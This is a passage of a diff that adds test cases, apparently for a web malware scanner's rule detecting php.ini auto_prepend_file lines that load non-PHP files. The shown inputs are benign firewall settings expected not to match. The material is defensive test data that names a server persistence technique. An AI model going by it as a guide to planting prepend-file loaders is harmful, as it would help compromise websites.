+        False,
+    ),
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        plain('auto_prepend_file = "/home/site.com/public_html/waf/bootstrap.phtml"\n'),
+        False,
+    ),
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        ini_padded('auto_prepend_file = "/home/site.com/public_html/waf/bootstrap.phtml"\n'),
+        False,
+    ),
     (
         "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
         plain("auto_prepend_file = '/var/www/html/wordfence-waf.php'\n"),
